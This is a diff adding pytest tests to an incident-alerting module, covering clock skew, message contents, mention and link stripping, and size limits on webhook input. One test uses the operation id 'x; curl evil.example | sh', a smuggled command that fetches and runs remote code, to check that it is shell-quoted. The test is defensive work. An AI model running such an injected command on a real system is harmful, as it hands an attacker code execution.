@@ -9,7 +9,7 @@ import pytest
 
 from atftctl.decide.alerting import events, webhook
 from atftctl.decide.alerting.incidents import QUIET_S, STALE_S, UPDATES, after, due, incidents
-from atftctl.decide.alerting.message import Place, compose, without
+from atftctl.decide.alerting.message import Place, compose, uncalled, without
 from atftctl.domain.alert import Alert, Conclusion, Notification, ReceivedAlert
 from atftctl.domain.errors import Refused
 from atftctl.domain.incident_events import Due, Event, RouteState
@@ -141,6 +141,12 @@ def test_an_old_incident_is_not_told_when_routes_are_added() -> None:
     assert due(incident, ROUTE, RouteState(), 10 + STALE_S + 1) is None
 
 
+def test_a_clock_that_was_set_back_delays_no_update() -> None:
+    incident = incidents([operation(10), operation(20)])[0]
+    message = due(incident, ROUTE, RouteState(sent=1, events=("op-10",), at=90_000.0), 30)
+    assert message and message.at == 90
+
+
 def test_an_operation_that_was_open_and_is_recovered_stays_one_incident() -> None:
     opened = events.of_open("op-50", "rollback op-50 is open", 60)
     before = incidents([opened])[0]
@@ -155,12 +161,25 @@ def lines(happened: Iterable[Event], kind: Any = "first") -> str:
 
 def test_a_message_says_what_happened_what_is_true_what_to_decide_and_the_command() -> None:
     text = lines([operation(10, code=1, files=[{"path": "x"}])])
-    for part in ("rollback --symptom x op-10: t", "trainer running", "What to decide", "atftctl undo op-10", "/project",
+    for part in ("rollback --symptom x op-10: t", "trainer running", "What to decide", "atftctl undo op-10", "1970-01-01 00:00:10 UTC",
+                 "The whole story: atftctl incident", "/project",
                  "contact: Emergency"):  # fmt: skip
         assert part in text, text
     assert "a person must look at it: atftctl recover" in lines([events.of_open("op-1", "open", 1)])
     assert "ended: verify passed" in lines([operation(10), verify(20)], "end")
     assert "22 earlier events" in lines([operation(10 + number) for number in range(30)])
+
+
+def test_the_id_of_a_foreign_operation_is_no_command() -> None:
+    event = operation(10, code=1, files=[{"path": "x"}], operation="x; curl evil.example | sh")
+    assert event.command == "atftctl undo 'x; curl evil.example | sh'"
+
+
+def test_no_name_calls_people_or_hides_a_link() -> None:
+    called = uncalled("@everyone <!channel> <@U1> <@&2> [look](http://x.y) mail: oncall@example.org, a < b")
+    for call in ("@everyone", "<!", "<@U", "<@&", "]("):
+        assert call not in called
+    assert "mail: oncall@example.org, a < b" in called
 
 
 def test_no_value_of_a_setting_is_told() -> None:
@@ -207,3 +226,5 @@ def test_a_notification_is_cut_to_size_and_made_printable() -> None:
     assert len(sent.alerts[0].labels) == 40
     assert max(map(len, sent.alerts[0].labels.values())) == 300
     assert len(sent.key) == 500
+    many = webhook.read(notification(alerts=[alert] * 1000, truncatedAlerts=10**4299 * 9))
+    assert many.more < 2_000_000, "Python shows no number of more digits"
